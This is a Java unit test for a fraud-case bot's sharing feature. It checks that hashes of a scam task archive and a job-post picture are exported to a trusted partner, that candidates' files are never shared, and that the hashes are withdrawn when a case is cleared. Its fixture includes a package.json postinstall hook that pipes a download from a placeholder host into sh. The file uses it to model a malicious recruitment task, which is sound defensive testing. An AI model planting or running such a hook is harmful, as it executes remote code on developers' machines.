package dev.bonafide.bot.share;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.bot.Ran;
import dev.bonafide.casefile.CaseId;
import dev.bonafide.casefile.Conclusion;
import dev.bonafide.casefile.Entry;
import dev.bonafide.casefile.Exhibit;
import dev.bonafide.casefile.ExhibitKind;
import dev.bonafide.casefile.SubjectKind;
import dev.bonafide.casefile.Submission;
import dev.bonafide.casefile.picture.PictureHash;
import dev.bonafide.identifier.FileHash;
import dev.bonafide.identifier.PictureSign;
import dev.bonafide.watchlist.Indicator;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

/** An archive that was handed out, and the picture of a post, leave by their hashes alone. */
class SharedFilesTest extends SharingScene {
  private static final String HASH = "0123456789abcdef".repeat(4);
  private static final String DIGITS = "fedcba9876543210".repeat(4);
  private static final String ARCHIVE =
      """
      Repository task.zip, 1 files, SHA-256 %s
      package.json

      === package.json ===
      {"scripts": {"postinstall": "curl -s https://front.example/a | sh"}}
      """
          .formatted(HASH);

  @Test
  void those_of_a_candidate_never_leave() {
    run("key", "--label", "Acme security");
    CaseId own = handedIn(SubjectKind.CANDIDATE);
    assertThat(run("export", Long.toString(own.number())).out())
        .contains("never: 1 files of a candidate")
        .doesNotContain(HASH)
        .doesNotContain(DIGITS);
  }

  @Test
  void a_friend_takes_them_in_and_loses_them_with_the_case() throws IOException {
    trusted();
    CaseId post = handedIn(SubjectKind.JOB_POST);
    String number = Long.toString(post.number());
    assertThat(run("export", number).out())
        .contains("+ sha256 " + HASH + "  task.zip, line 1: \"SHA-256 " + HASH + "\"")
        .contains("- pdq " + DIGITS + "  post.png, line 1: ");
    Ran shared =
        run("export", number, "--with", "pdq " + DIGITS, "--yes", "--out", path("files.json"));
    assertThat(shared.err()).isEmpty();
    assertThat(Files.readString(Path.of(path("files.json"))))
        .contains("[file:hashes.'SHA-256' = '" + HASH + "']")
        .contains("[file:hashes.'x_pdq' = '" + DIGITS + "']")
        .doesNotContain("task.zip");
    assertThat(other("import", path("files.json")).out()).contains("0 left out");
    assertThat(lists().read("shared by " + friend).orElseThrow().indicators())
        .extracting(Indicator::identifier)
        .contains(new FileHash(HASH), new PictureSign(DIGITS));

    cases.append(post, new Entry.Concluded(AT, "U1", Conclusion.CLEARED, "a mistake"));
    run("withdraw", "--yes", "--out", path("less.json"));
    assertThat(other("import", path("less.json")).out()).contains("0 indicators, 0 new");
  }

  private CaseId handedIn(SubjectKind kind) {
    CaseId id = cases.open(tenant, "C1/2.0", AT);
    List<Exhibit> exhibits =
        List.of(
            Exhibit.of("task.zip", ExhibitKind.REPOSITORY, ARCHIVE),
            Exhibit.of("post.png", ExhibitKind.JOB_POST, "Earn 500 a day from home")
                .picturing(List.of(PictureHash.of(DIGITS))));
    Submission handedIn = new Submission(kind, null, List.of(), exhibits, List.of());
    String report =
        """
        {"subject": {"kind": "%s"}, "findings": [
          {"rule": "a", "evidence": [{"exhibit": "task.zip", "line": 5,
            "quote": "curl -s https://front.example/a | sh"}]}]}
        """
            .formatted(kind.id());
    cases.append(id, new Entry.HandedIn(AT, "U1", handedIn));
    cases.append(id, new Entry.Examined(AT, "bot", "e", "verify", "r", "s", report));
    cases.append(id, new Entry.Concluded(AT, "U1", Conclusion.CONFIRMED_FRAUD, "a front"));
    return id;
  }
}
